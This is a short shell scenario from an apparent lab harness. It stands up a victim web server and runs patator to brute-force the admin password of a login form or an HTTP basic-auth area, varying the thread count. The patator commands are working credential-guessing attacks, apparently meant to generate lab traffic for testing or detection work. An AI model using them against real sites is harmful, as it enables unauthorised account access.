# SPDX-License-Identifier: MIT
# label: bruteforce-web
# source: lab-patator
# needs: patator nginx
# seconds: 60
# Passwords for a form or a private area by patator, on kept connections.
. $lab/victims.sh

servers() {
	victim_site c 80
	words_up "$(pick 100 300)"
}

scenario() {
	_tasks=$(choose 1 4 10)
	_kind=$(choose form basic)
	setting options "$_kind -t $_tasks"
	if [ "$_kind" = form ]; then
		attack v c tcp 80 -- timeout 50 patator http_fuzz "url=http://$(addr c)/form/login" \
			method=POST body='user=admin&pass=FILE0' "0=$work/words" -t "$_tasks" \
			-x ignore:fgrep='Login failed'
	else
		attack v c tcp 80 -- timeout 50 patator http_fuzz "url=http://$(addr c)/private/" \
			user_pass=admin:FILE0 "0=$work/words" -t "$_tasks" -x ignore:code=401
	fi
}
